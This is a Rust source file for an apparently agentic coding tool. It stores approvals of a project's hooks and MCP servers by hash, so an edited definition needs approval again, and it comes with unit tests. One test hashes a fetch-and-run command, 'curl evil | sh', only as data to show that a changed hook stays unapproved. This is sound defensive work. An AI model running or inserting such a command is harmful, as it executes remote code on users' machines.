//! Approval of a trusted project's own extensions (CONTRACT "Folder trust"): even in a trusted
//! folder, the project's hooks and MCP servers run only once the user approved them, and again
//! after their definition changes. `$HARNESS9_HOME/approved.json` remembers each approval as the
//! folder, the kind, the name and a SHA-256 of the definition, so an edited definition (a
//! `git pull` that changes a hook's command) is a new, unapproved one. This is the one place
//! that decides it for every kind of extension.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::trust::TrustError;

/// The file's name under `$HARNESS9_HOME`.
pub const APPROVED_FILE: &str = "approved.json";

/// What kind of project extension an approval is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ExtensionKind {
    /// A project's hooks (one approval covers the hooks of one settings file, by its name).
    Hooks,
    /// One MCP server of the project's `.mcp.json`, by its name.
    McpServer,
}

/// A project extension found in a trusted folder and not approved (or changed since): the TUI
/// asks about each at start; `exec` and `serve` run it only with `--trust`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PendingExtension {
    pub kind: ExtensionKind,
    pub name: String,
    /// What it would run, in words for the user (a hook's command, a server's command line).
    pub summary: String,
    /// `definition_hash` of its definition, remembered by `approve`.
    pub hash: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct Approval {
    workdir: PathBuf,
    kind: ExtensionKind,
    name: String,
    sha256: String,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct ApprovedFile {
    #[serde(default)]
    approved: Vec<Approval>,
}

/// The hash an approval is remembered by: SHA-256 over the definition's JSON text. serde_json
/// keeps an object's keys sorted, so the same definition written in another key order, or with
/// other whitespace, hashes the same.
pub fn definition_hash(definition: &serde_json::Value) -> String {
    let text = definition.to_string();
    let digest = Sha256::digest(text.as_bytes());
    digest.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Whether the user approved exactly this definition (`hash`) of the extension `name` of the
/// project at `workdir` (a canonical path). An unreadable file approves nothing.
pub fn is_approved(
    home: &Path,
    workdir: &Path,
    kind: ExtensionKind,
    name: &str,
    hash: &str,
) -> bool {
    match read(home) {
        Ok(file) => file
            .approved
            .iter()
            .any(|a| a.workdir == workdir && a.kind == kind && a.name == name && a.sha256 == hash),
        Err(error) => {
            tracing::warn!("[approved] {error}; no project extension counts as approved");
            false
        }
    }
}

/// Remembers the user's approval of this definition; an older approval of the same extension
/// is replaced. A file that cannot be parsed is left as it is and the error says so.
pub fn approve(
    home: &Path,
    workdir: &Path,
    kind: ExtensionKind,
    name: &str,
    hash: &str,
) -> Result<(), TrustError> {
    let mut file = read(home)?;
    file.approved
        .retain(|a| !(a.workdir == workdir && a.kind == kind && a.name == name));
    file.approved.push(Approval {
        workdir: workdir.to_path_buf(),
        kind,
        name: name.to_owned(),
        sha256: hash.to_owned(),
    });
    let path = home.join(APPROVED_FILE);
    let write_error = |reason: String| TrustError::Write {
        path: path.display().to_string(),
        reason,
    };
    crate::private_home::create_dir(home).map_err(|e| write_error(e.to_string()))?;
    let text = serde_json::to_string_pretty(&file).map_err(|e| write_error(e.to_string()))?;
    // Written beside and renamed over, so a crash never leaves half a file.
    let partial = home.join(format!("{APPROVED_FILE}.partial"));
    std::fs::write(&partial, text + "\n").map_err(|e| write_error(e.to_string()))?;
    std::fs::rename(&partial, &path).map_err(|e| write_error(e.to_string()))
}

fn read(home: &Path) -> Result<ApprovedFile, TrustError> {
    let path = home.join(APPROVED_FILE);
    let read_error = |reason: String| TrustError::Read {
        path: path.display().to_string(),
        reason,
    };
    let text = match std::fs::read_to_string(&path) {
        Ok(text) => text,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(ApprovedFile::default()),
        Err(e) => return Err(read_error(e.to_string())),
    };
    serde_json::from_str(&text).map_err(|e| read_error(e.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn an_approval_holds_for_that_definition_only() {
        let home = tempfile::tempdir().unwrap();
        let work = Path::new("/srv/repo");
        let hook = json!({"command": "cargo fmt", "timeout": 30});
        let hash = definition_hash(&hook);
        let kind = ExtensionKind::Hooks;
        assert!(!is_approved(
            home.path(),
            work,
            kind,
            "settings.json",
            &hash
        ));
        approve(home.path(), work, kind, "settings.json", &hash).unwrap();
        assert!(is_approved(home.path(), work, kind, "settings.json", &hash));
        // Another folder, another kind or name, or a changed definition: not approved.
        assert!(!is_approved(
            home.path(),
            Path::new("/srv/other"),
            kind,
            "settings.json",
            &hash
        ));
        let mcp = ExtensionKind::McpServer;
        assert!(!is_approved(home.path(), work, mcp, "settings.json", &hash));
        let changed = definition_hash(&json!({"command": "curl evil | sh", "timeout": 30}));
        assert!(!is_approved(
            home.path(),
            work,
            kind,
            "settings.json",
            &changed
        ));
        // Approving the change replaces the old approval.
        approve(home.path(), work, kind, "settings.json", &changed).unwrap();
        assert!(!is_approved(
            home.path(),
            work,
            kind,
            "settings.json",
            &hash
        ));
        assert!(is_approved(
            home.path(),
            work,
            kind,
            "settings.json",
            &changed
        ));
    }

    #[test]
    fn key_order_and_whitespace_do_not_change_the_hash() {
        let a: serde_json::Value = serde_json::from_str(r#"{"a": 1, "b": [2, 3]}"#).unwrap();
        let b: serde_json::Value = serde_json::from_str("{\"b\":[2,3],\n\"a\":1}").unwrap();
        assert_eq!(definition_hash(&a), definition_hash(&b));
        assert_eq!(definition_hash(&a).len(), 64);
    }

    #[test]
    fn a_malformed_file_approves_nothing_and_is_not_overwritten() {
        let home = tempfile::tempdir().unwrap();
        let path = home.path().join(APPROVED_FILE);
        std::fs::write(&path, "{not json").unwrap();
        let work = Path::new("/srv/repo");
        assert!(!is_approved(
            home.path(),
            work,
            ExtensionKind::Hooks,
            "x",
            "h"
        ));
        assert!(approve(home.path(), work, ExtensionKind::Hooks, "x", "h").is_err());
        assert_eq!(std::fs::read_to_string(&path).unwrap(), "{not json");
    }
}
